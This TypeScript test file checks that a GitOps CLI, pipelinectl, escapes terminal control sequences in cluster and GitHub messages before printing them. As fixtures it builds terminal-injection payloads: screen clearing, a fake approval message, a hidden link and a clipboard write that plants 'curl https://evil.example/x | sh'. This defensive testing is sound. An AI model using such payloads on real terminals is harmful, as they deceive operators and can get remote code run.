// What pipelinectl prints of text from outside cannot act on the terminal. A leaf cluster's HelmRelease fails with a
// condition message that clears the screen, paints "all good, approve it" green, writes `curl … | sh` to the
// clipboard (OSC 52), hides a link (OSC 8), reverses the text (U+202E) and starts an 8-bit CSI (U+009B); the real
// verifier reads it through the real cluster reader and records it. A GitHub error carries the same text (`check`),
// and so does a GitopsCluster's EKS name (`get`). In every human-readable output the text is there, escaped, and no
// raw control character is; in JSON and YAML it is escaped in the format's own way and parses back to the same value.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'yaml';
import type { Backend } from '../../lib/cli/backend.js';
import { openLocalBackend } from '../../lib/cli/backends/local.js';
import { KubernetesClusterReader } from '../../lib/clusters/index.js';
import { RecordingPromoter } from '../../lib/testing/recording-promoter.js';
import { clusterWithKubeconfigYaml, pipelineYaml, secretYaml, yamlDocuments } from '../../lib/testing/config-yaml.js';
import { FakeGitHub } from '../../lib/testing/fake-github.js';
import { FakeKubeApi } from '../../lib/testing/fake-kube-api.js';
import { installedHelmRelease } from '../../lib/testing/helm-release.js';
import { RecordingQueue } from '../../lib/testing/recording-queue.js';
import { createVerifier } from '../../lib/verifier/index.js';
import { writeFiles } from '../support/temp-files.js';
import { runCli, type CliRun } from '../support/pipelinectl.js';
import { silentLogger } from '../../lib/logging/logger.js';

const PIPELINE = { namespace: 'flux-system', name: 'podinfo' };

const ESC = '\u001b';
const BEL = '\u0007';
const CLEAR = `${ESC}[2J${ESC}[H`;
const GREEN = `${ESC}[32mall good, approve it${ESC}[0m`;
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}${BEL}`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`;
const REVERSED = '\u202etxt.exe';
const CSI_8BIT = '\u009b31m';
/** A condition message as a hostile leaf cluster sets it. */
const HOSTILE = `${GREEN} ${CLEAR}${CLIPBOARD}${LINK} ${REVERSED} ${CSI_8BIT}`;
/** A GitopsCluster's EKS name holds at most 100 characters. */
const HOSTILE_NAME = `${GREEN}${REVERSED}${CLEAR}`;

/** The bidi controls: ALM, LRM, RLM, the line and paragraph separators, the embeddings and overrides, the isolates. */
const BIDI = new Set([
  0x61c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
]);

/** The first character of `text` a terminal acts on (C0 but the line feed, DEL, C1) or a bidi control. */
function rawControl(text: string): number | undefined {
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0;
    if ((code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || BIDI.has(code)) return code;
  }
  return undefined;
}

function assertNoRawControl(run: CliRun, what: string): void {
  for (const [stream, text] of [
    ['stdout', run.stdout],
    ['stderr', run.stderr],
  ] as const) {
    const found = rawControl(text);
    assert.equal(found, undefined, `${what}: raw U+${found?.toString(16)} on ${stream}`);
  }
}

/** The start of the hostile text as tables and text show it, escaped (a table cuts a long message short). */
const SHOWN = '\\u{1b}[32mall good';
/** The whole of it, as `explain` shows it (it cuts nothing). */
const SHOWN_WHOLE =
  '\\u{1b}[32mall good, approve it\\u{1b}[0m \\u{1b}[2J\\u{1b}[H\\u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=' +
  '\\u{7}\\u{1b}]8;;https://evil.example/\\u{1b}\\click here\\u{1b}]8;;\\u{1b}\\ \\u{202e}txt.exe \\u{9b}31m';

/** Every string of a parsed JSON or YAML value. */
function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (typeof value === 'object' && value !== null) return Object.values(value).flatMap(stringsOf);
  return [];
}

describe('pipelinectl escapes what it prints of text from outside', { concurrency: false }, () => {
  let root = '';
  let dataDir = '';
  let kube: FakeKubeApi;
  let github: FakeGitHub;
  const cli = (...args: string[]) => runCli([...args, '--data-dir', dataDir]);

  async function onStore<T>(action: (backend: Backend) => Promise<T>): Promise<T> {
    const backend = await openLocalBackend(dataDir, silentLogger);
    try {
      return await action(backend);
    } finally {
      await backend.close();
    }
  }

  before(async () => {
    const failing = installedHelmRelease({ namespace: 'dev', name: 'podinfo' }, '6.9.2');
    const [ready] = failing.status.conditions;
    assert.ok(ready);
    Object.assign(ready, { status: 'False', reason: 'UpgradeFailed', message: HOSTILE });
    kube = await FakeKubeApi.start({
      objects: [failing, installedHelmRelease({ namespace: 'prod', name: 'podinfo' }, '6.9.1')],
    });
    github = await FakeGitHub.start();
    github.createRepository('acme', 'fleet', {
      'apps/prod/podinfo.yaml': 'version: "6.9.1" # {"$promotion": "flux-system:podinfo:prod"}\n',
    });
    root = await mkdtemp(join(tmpdir(), 'pipelinectl-escaping-'));
    dataDir = join(root, 'data');
    await writeFiles(root, {
      'config/fleet.yaml': yamlDocuments(
        clusterWithKubeconfigYaml('fleet', kube.kubeconfig()),
        // JSON is YAML: the name with its control characters, escaped in the file.
        `apiVersion: gitops.weave.works/v1alpha1\nkind: GitopsCluster\nmetadata: {name: spare, namespace: flux-system}\n` +
          `spec: {eks: {clusterName: ${JSON.stringify(HOSTILE_NAME)}, region: eu-west-1}}\n`,
        secretYaml('github', { token: github.token }),
        pipelineYaml({
          name: 'podinfo',
          environments: ['dev', 'prod'].map((env) => ({ name: env, targets: [{ namespace: env, cluster: 'fleet' }] })),
          strategy: { url: 'https://github.com/acme/fleet' },
        }),
      ),
    });
    const applied = await cli('apply', '-f', join(root, 'config'));
    assert.equal(applied.code, 0, applied.stderr);

    // The verifier reads the leaf cluster, as serve's does, and records what the HelmRelease says.
    await onStore(async (backend) => {
      const { store, secrets } = backend;
      assert.ok(secrets);
      const handle = createVerifier({
        store,
        queue: new RecordingQueue(),
        clusters: new KubernetesClusterReader({
          getCluster: async (key) => (await store.getCluster(key))?.document,
          secrets,
        }),
        promoter: new RecordingPromoter(),
        logger: silentLogger,
        now: () => new Date(),
        workerId: 'escaping-test',
      });
      await handle(
        { type: 'check-pipeline', pipeline: PIPELINE, cause: 'apply', readTargets: true },
        { messageId: 'message-1', receiveCount: 1 },
      );
      // A promotion that failed on the Git host's answer leaves that answer in the trail.
      await store.appendAudit({
        at: new Date().toISOString(),
        pipeline: PIPELINE,
        type: 'promotion-failed',
        env: 'prod',
        revision: '6.9.2',
        message: HOSTILE,
        actor: 'verifier',
      });
    });
  });
  after(async () => {
    await Promise.all([kube.stop(), github.stop()]);
    await rm(root, { recursive: true, force: true });
  });

  for (const args of [['status'], ['explain', 'flux-system/podinfo'], ['history']]) {
    it(`${args[0]}: the condition message is shown, escaped`, async () => {
      const run = await cli(...args);
      assert.equal(run.code, 0, run.stderr);
      assertNoRawControl(run, args[0] ?? '');
      assert.ok(run.stdout.includes(args[0] === 'explain' ? SHOWN_WHOLE : SHOWN), run.stdout);
    });
  }

  it('check: the Git host error is shown, escaped', async () => {
    github.failNext(403, { message: HOSTILE });
    const run = await cli('check', 'flux-system/podinfo', '--github-api-url', github.url);
    assert.equal(run.code, 2, run.stderr);
    assertNoRawControl(run, 'check');
    assert.ok(run.stdout.includes(SHOWN_WHOLE), run.stdout);
  });

  it('get clusters: the EKS name is shown, escaped', async () => {
    const run = await cli('get', 'clusters');
    assert.equal(run.code, 0, run.stderr);
    assertNoRawControl(run, 'get');
    assert.ok(run.stdout.includes('\\u{1b}[32mall good, approve it\\u{1b}[0m\\u{202e}'), run.stdout);
  });

  for (const args of [
    ['status', '-o', 'json'],
    ['explain', 'flux-system/podinfo', '-o', 'json'],
    ['history', '-o', 'json'],
    ['get', 'clusters', '-o', 'json'],
    ['status', '-o', 'yaml'],
    ['get', 'clusters', '-o', 'yaml'],
  ]) {
    it(`${args.join(' ')}: escaped in the format's own way, the same value parsed`, async () => {
      const run = await cli(...args);
      assert.equal(run.code, 0, run.stderr);
      assertNoRawControl(run, args.join(' '));
      const value: unknown = args.includes('json') ? JSON.parse(run.stdout) : parse(run.stdout);
      const expected = args[0] === 'get' ? HOSTILE_NAME : HOSTILE;
      assert.ok(
        stringsOf(value).some((text) => text.includes(expected)),
        'the text, whole, in the parsed value',
      );
    });
  }
});
